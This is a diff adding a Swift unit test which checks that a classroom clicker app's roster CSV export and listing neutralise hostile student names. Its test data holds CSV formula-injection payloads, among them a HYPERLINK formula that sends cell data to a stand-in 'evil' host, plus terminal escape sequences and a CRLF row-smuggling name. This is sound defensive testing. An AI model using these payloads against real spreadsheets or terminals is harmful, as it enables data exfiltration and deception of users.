@@ -148,6 +148,40 @@ final class PollControllerTests: XCTestCase {
         XCTAssertEqual(st.st_mode & 0o777, 0o600)
     }
 
+    /// A class list with hostile names: the roster export holds no formula and no control
+    /// character, and `roster list` prints none either.
+    func testHostileRosterNamesAreNeutralisedInTheExportAndTheListing() async throws {
+        let names = ["=HYPERLINK(\"http://evil/\"&A1,\"grades\")", "@cmd", "+1", "-1+1",
+                     "Eve\u{1B}]0;owned\u{07}\u{1B}[2J", "\tTab", "Mallory\u{9B}31m\r\nBob,s9,A"]
+        let roster = try Roster(entries: names.enumerated().map { i, n in
+            RosterEntry(name: n, studentID: i == 0 ? "=1+1" : "s\(i)", enrollment: DeviceKey.generate().enrollmentCode)
+        })
+        let dir = NSTemporaryDirectory() + "clicker-hostile-\(UUID().uuidString)"
+        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
+        let store = try ClickerStore(path: dir + "/db.sqlite", durability: .normal)
+        try RosterBook.save(roster, to: store)
+        let loaded = try XCTUnwrap(try RosterBook.load(from: store))
+        let controller = try PollController(options: PollOptions(joinCode: code, roster: loaded, confirmByGATT: false),
+                                            store: store)
+        let files = try await controller.export(to: dir)
+        let text = try String(contentsOfFile: try XCTUnwrap(files.first { $0.hasSuffix("-roster.csv") }), encoding: .utf8)
+        let lines = text.components(separatedBy: "\r\n").dropFirst().filter { !$0.isEmpty }
+        XCTAssertEqual(lines.count, names.count, "one line per student: no name broke a row")
+        for line in lines {
+            XCTAssertFalse(line.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) }, line)
+            // Each field either is quoted or plain; its first character after an optional quote
+            // must not start a formula.
+            let firstField = line.hasPrefix("\"") ? String(line.dropFirst()) : line
+            XCTAssertFalse(["=", "+", "-", "@"].contains(firstField.first.map(String.init) ?? ""), line)
+        }
+        XCTAssertTrue(text.contains("'=1+1"), "the student ID column is neutralised too")
+        for e in loaded.entries {
+            let shown = RosterBook.listing(e)
+            XCTAssertFalse(shown.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\t") || (0x7F...0x9F).contains($0.value) },
+                           shown.debugDescription)
+        }
+    }
+
     // MARK: Questions
 
     func testClosedQuestionRejectsLateBallotsAndNextQuestionCountsAfresh() async throws {
